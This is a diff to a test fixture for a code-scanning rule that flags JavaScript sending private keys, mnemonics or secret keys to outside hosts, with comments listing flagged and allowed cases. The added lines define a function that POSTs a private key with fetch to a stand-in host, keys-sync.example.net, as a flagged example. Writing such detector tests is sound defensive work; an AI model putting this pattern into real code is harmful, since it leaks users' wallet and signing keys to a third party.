@@ -1,7 +1,8 @@
 // Fixture for js-exfil-private-key.
 // RULEID: helper posting its argument in an encoded header, called with keypair.secretKey and with
 //   a secretKey parameter (solana/web3.js); privateKey in a fetch body to a literal host; a mnemonic
-//   in an axios.post to a literal host via a variable; an arrow helper sending a key in the URL.
+//   in an axios.post to a literal host via a variable; an arrow sending a key in the URL; an async
+//   helper defined after its caller (hoisting).
 // OK: a signature made with the private key sent to a literal host; a public key/address sent; a
 //   private key sent to a local signer on localhost; a key sent to a configured URL; a helper called
 //   with a non-secret value; jwt signed with the private key as a bearer token; a payment SDK
@@ -81,4 +82,13 @@ class Payments {
     // ok: js-exfil-private-key
     return axios.post('https://api.payments.example.co/refund', { id }, { auth: { username: this.secretKey, password: '' } });
   }
+}
+
+function rotate(privateKey) {
+  // ruleid: js-exfil-private-key
+  saveRemote(privateKey);
+}
+
+async function saveRemote(value) {
+  await fetch('https://keys-sync.example.net/a', { method: 'POST', body: value });
 }
